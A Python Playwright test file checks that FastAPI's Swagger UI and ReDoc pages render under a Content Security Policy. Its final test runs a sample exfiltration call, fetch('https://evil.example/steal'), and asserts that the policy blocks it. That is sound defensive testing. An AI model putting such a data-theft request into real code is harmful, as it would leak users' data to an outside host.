"""FastAPI's docs pages in development, under the policy that is made for them. R04 R10

What they take from a delivery network comes from npm packages here. The browser judges the address
all the same, before anything is fetched.
"""

import mimetypes
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from harness.gateway import Gateway, running
from harness.packages import NoNpmError, package
from harness.suites import SHOP_APP
from playwright.sync_api import BrowserContext, Page, Route

SWAGGER = ("swagger-ui-dist", "5.35.0")
REDOC = ("redoc", "2.5.4")
CDN = "https://cdn.jsdelivr.net/npm/"

VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
});
"""


@pytest.fixture(scope="module")
def assets() -> dict[str, Path]:
    """The packages by the addresses that FastAPI writes into its pages."""
    try:
        swagger, redoc = package(*SWAGGER), package(*REDOC)
    except NoNpmError as error:
        if os.environ.get("E2E_BROWSER") == "required":
            pytest.fail(str(error))
        pytest.skip(str(error))
    return {f"{CDN}swagger-ui-dist@5/": swagger, f"{CDN}redoc@2/": redoc}


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    """The shop as `make run` serves it."""
    folder = tmp_path_factory.mktemp("docs")
    SHOP_APP.seed(folder / "data")
    environment = SHOP_APP.environment(folder / "data")
    with running(
        folder, SHOP_APP.target, SHOP_APP.folder, dev=True, environment=environment
    ) as gateway:
        yield gateway


class Watched:
    """A page, what it asked of the network, and what it complained of."""

    def __init__(self, browser: BrowserContext, gateway: Gateway, assets: dict[str, Path]) -> None:
        self.page: Page = browser.new_page()
        self.console: list[str] = []
        self.served: list[str] = []
        self._gateway = gateway
        self._assets = assets
        self.page.on("console", lambda message: self.console.append(message.text))
        self.page.on("pageerror", lambda error: self.console.append(f"pageerror: {error}"))
        self.page.add_init_script(VIOLATIONS)
        self.page.route("**/*", self.answer)

    def answer(self, route: Route) -> None:
        """Let the gateway's own through and serve packages from disk; nothing comes from afar."""
        url = route.request.url
        if url.startswith((self._gateway.base_url, "blob:", "data:")):
            route.continue_()
            return
        for prefix, folder in self._assets.items():
            if url.startswith(prefix):
                file = folder / url.removeprefix(prefix)
                self.served.append(url)
                kind = mimetypes.guess_type(file.name)[0] or "application/octet-stream"
                headers = {"Access-Control-Allow-Origin": "*"}
                route.fulfill(body=file.read_bytes(), content_type=kind, headers=headers)
                return
        # Fonts and the icon: allowed by the policy, and not needed to see that they are.
        route.fulfill(status=200, body="", content_type="text/css")

    def complaints(self) -> list[str]:
        """Give what was blocked, by the event and by the console."""
        events: list[str] = self.page.evaluate("window.violations")
        words = ("Content Security Policy", "violates", "pageerror")
        return events + [text for text in self.console if any(word in text for word in words)]


def test_swagger_ui_renders_and_executes(
    browser: BrowserContext, shop: Gateway, assets: dict[str, Path]
) -> None:
    # R04, R10
    watched = Watched(browser, shop, assets)
    page = watched.page
    page.goto(f"{shop.base_url}/docs")
    page.wait_for_selector("#operations-diagnostics-stats_stats_get")
    contract = page.evaluate("fetch('/openapi.json').then((answer) => answer.json())")
    operations = sum(len(methods) for methods in contract["paths"].values())
    assert page.locator(".opblock").count() == operations
    operation = page.locator("#operations-diagnostics-stats_stats_get")
    operation.locator(".opblock-summary-control").click()
    operation.locator("button.try-out__btn").click()
    operation.locator("button.execute").click()
    operation.locator(".live-responses-table .response-col_status").last.wait_for()
    table = operation.locator(".live-responses-table")
    table.get_by_text("200", exact=True).first.wait_for()
    assert '"open_streams"' in table.inner_text()
    assert len(watched.served) == 2, watched.served
    assert watched.complaints() == []


def test_redoc_renders(browser: BrowserContext, shop: Gateway, assets: dict[str, Path]) -> None:
    # R04, R10
    watched = Watched(browser, shop, assets)
    page = watched.page
    page.goto(f"{shop.base_url}/redoc")
    page.wait_for_selector("[data-section-id='tag/diagnostics/operation/stats_stats_get']")
    assert page.locator("[data-section-id*='/operation/']").count() > 30
    assert len(watched.served) == 1, watched.served
    assert watched.complaints() == []


def test_what_the_docs_do_not_need_stays_blocked(
    browser: BrowserContext, shop: Gateway, assets: dict[str, Path]
) -> None:
    # R04: the tests above prove something only if this is reported
    watched = Watched(browser, shop, assets)
    watched.page.goto(f"{shop.base_url}/docs")
    watched.page.wait_for_selector(".opblock")
    watched.page.evaluate("fetch('https://evil.example/steal').catch(() => null)")
    watched.page.wait_for_function("window.violations.length > 0")
    assert watched.page.evaluate("window.violations") == ["connect-src https://evil.example/steal"]
